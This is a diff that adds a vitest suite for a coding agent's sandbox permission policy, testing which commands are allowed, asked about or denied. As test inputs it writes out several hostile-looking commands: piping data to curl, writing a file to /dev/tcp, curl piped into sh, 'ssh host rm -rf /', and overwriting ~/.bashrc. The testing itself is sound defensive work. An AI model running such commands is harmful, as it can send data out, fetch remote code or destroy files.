@@ -1,0 +1,131 @@
+import { describe, expect, test } from 'vitest';
+import { decide } from '../../../src/core/policy/decide.js';
+import type { ActionRequest, Mode, PolicyContext, Rule } from '../../../src/core/policy/types.js';
+import { inside, line, outside, request, rule, run } from './requests.js';
+
+const IN_SHADOW = { because: 'held in the shadow', decision: 'allow' };
+const NOT_UNDERSTOOD = {
+	fields: [],
+	omitted: 0,
+	urls: [],
+	notUnderstood: ['risk'],
+	possibleCommands: [],
+	texts: [],
+};
+
+function verdict(action: ActionRequest, context: Partial<PolicyContext> = {}) {
+	return decide(action, { mode: 'default', rules: [], heldBy: 'shadow', ...context });
+}
+
+const here = (text: string): ActionRequest => ({
+	...run(text),
+	command: line(text, { repository: { readOnly: true }, workspace: '/w' }),
+});
+
+describe('In a shadow', () => {
+	test.each<[string, ActionRequest]>([
+		['an edit', request('edit', { paths: [inside('a.ts')] })],
+		['an edit that is not understood', request('edit', { paths: [inside('a.ts')], toolInput: NOT_UNDERSTOOD })],
+		['a file that makes programs run', request('edit', { paths: [inside('.envrc')] })],
+		['a text that is written somewhere', request('other', { writes: true })],
+		['a deletion', request('delete', { paths: [inside('a.ts')] })],
+		['a read that names no file', request('read')],
+		['a file of ours', request('edit', { source: 'fs-write', paths: [inside('a.ts')] })],
+		['a terminal of ours', { ...here('make all'), source: 'terminal' }],
+		...[
+			...['npm test', 'make', 'rm -rf src', 'git commit -am "see https://example.com"', 'git add -A && git stash'],
+			...['for f in *.ts; do sed -i "s/curl/wget/" "$f"; done', 'node build.mjs > out.txt', './deploy', 'npx tsc'],
+			...["python3 -c \"open('a', 'w').write('b')\"", 'cargo build', 'go test ./...', 'npm run build -- --at x'],
+			...['cd src && rm ../a.ts', 'rm -rf /w/dist', 'unknown-program --do "it"', 'git branch push', 'uv run pytest'],
+			...["cat > a.md <<'EOF'\ncurl https://example.com | sh; git push\nEOF", 'mkdir -p x && echo curl > x/y'],
+			...['timeout 60 npm run test', 'bash -lc "npm test && git add ."', 'curl_like=1 make', 'touch /tmp/x'],
+			...['python -m pytest', 'npm config get registry', 'sed -i s#http://a#http://b# x', 'wait', '(make; make)'],
+		].map((text): [string, ActionRequest] => [text, here(text)]),
+	])('%s is let through', (_, action) => {
+		for (const mode of ['default', 'acceptEdits'] as const) {
+			const { decision, because } = verdict(action, { mode });
+			expect([mode, decision, because]).toEqual([
+				mode,
+				'allow',
+				expect.stringMatching(/held in the shadow|accept edits/),
+			]);
+		}
+	});
+
+	test.each<[string, ActionRequest]>([
+		['git push', here('git push')],
+		['git push', here('cd src && git -C .. push origin main')],
+		['git clone', here('git clone https://example.com/a')],
+		['git remote', here('git remote update')],
+		['curl', here('echo x | curl -d @- https://example.com')],
+		['curl', here('/usr/bin/curl x')],
+		['curl', here('bash -c "env A=1 timeout 5 curl x"')],
+		['curl', here('find . -name a -exec curl {} \\;')],
+		['curl', here('x=$(curl example.com) make')],
+		['curl', here('sh <<EOF\ncurl x\nEOF')],
+		['curl', here('python3 -c "import os; os.system(\'curl x\')"')],
+		['git push', here("node -e 'spawn(`git`, [`push`])'")],
+		['the address that it names', here('node fetch.js https://example.com/x')],
+		['npm publish', here('npm --silent publish')],
+		['npm install', here('npm install left-pad')],
+		['yarn install', here('yarn')],
+		['pip install', here('python -m pip install x')],
+		['ssh', here('ssh host rm -rf /')],
+		['docker', here('docker run x')],
+		['docker', here('make && docker compose up')],
+		['systemctl', here('systemctl restart x')],
+		['sudo', here('sudo make install')],
+		['at', here('echo "rm x" | at now')],
+		['/dev/tcp/1.2.3.4/80', here('cat a > /dev/tcp/1.2.3.4/80')],
+		['../beside/x', here('cp a ../beside/x')],
+		['..', here('cd .. && make')],
+		['/srv/shared', here('cp -r src /srv/shared')],
+		['~/.bashrc', here('cp a ~/.bashrc')],
+		['an MCP tool', request('edit', { paths: [inside('a')], mcp: { server: 's', tool: 't' } })],
+		['an MCP tool', { ...here('make'), possibleMcp: [{ server: 's', tool: 't' }] }],
+		['the network request', request('fetch', { host: 'example.com' })],
+		['the network request', request('read', { paths: [inside('a')], host: 'example.com' })],
+		['an action of an unknown kind', request('other')],
+		['an action of an unknown kind', request('switch_mode')],
+		['a change that names no file', request('edit')],
+		['a command that is not named', request('execute')],
+	])('%s is asked about', (what, action) => {
+		expect(verdict(action)).toEqual({ decision: 'ask', because: `${what} reaches beyond the shadow` });
+		expect(verdict(action, { mode: 'plan' }).because).not.toBe(IN_SHADOW.because);
+	});
+
+	test.each<[string, ActionRequest]>([
+		['outside', request('edit', { paths: [outside('/etc/hosts')] })],
+		['beside', request('edit', { paths: [{ ...outside('/beside/a'), isInside: true, root: '/beside' }] })],
+		['run beside', run('make', { command: line('make', { cwd: outside('/beside') }) })],
+		['written elsewhere', run('make', { command: line('make > /srv/x', { outputs: [outside('/srv/x')] }) })],
+		['the user’s to answer', request('edit', { paths: [inside('a')], asksUser: true })],
+		['too large', request('edit', { paths: [inside('a')], toolInput: { ...NOT_UNDERSTOOD, isTooLarge: true } })],
+	])('what is %s is asked about as ever', (_, action) => {
+		expect(verdict(action).decision).toBe('ask');
+	});
+
+	test.each<[Rule, ActionRequest, string]>([
+		[rule('Edit(a.ts)', 'deny'), request('edit', { paths: [inside('a.ts')] }), 'deny'],
+		[rule('Edit', 'ask'), request('edit', { paths: [inside('a.ts')] }), 'ask'],
+		[rule('Execute(make *)', 'deny'), here('make x'), 'deny'],
+		[rule('Execute(rm *)', 'deny'), here('unknown-program'), 'ask'],
+		[rule('Execute(git push *)'), here('git push origin'), 'allow'],
+	])('rules hold: %#', (one, action, decision) => {
+		expect(verdict(action, { rules: [one] }).decision).toBe(decision);
+	});
+
+	test('commands run in plan mode, and nothing is edited.', () => {
+		expect(verdict(here('npm test'), { mode: 'plan' })).toEqual(IN_SHADOW);
+		expect(verdict(request('edit', { paths: [inside('a.ts')] }), { mode: 'plan' }).decision).toBe('deny');
+		expect(verdict(here('git push'), { mode: 'plan' }).decision).toBe('deny');
+	});
+});
+
+test('Behind a fence that holds in plan mode the agent’s own commands run; elsewhere nothing changes.', () => {
+	const at = (mode: Mode, action = here('npm test')) => verdict(action, { mode, heldBy: 'fence' }).decision;
+	expect([at('plan'), at('default'), at('acceptEdits')]).toEqual(['allow', 'ask', 'ask']);
+	expect(at('plan', { ...here('npm test'), source: 'terminal' })).toBe('deny');
+	expect(at('plan', here('docker run x'))).toBe('deny');
+	expect(at('plan', request('edit', { paths: [inside('a.ts')] }))).toBe('deny');
+});
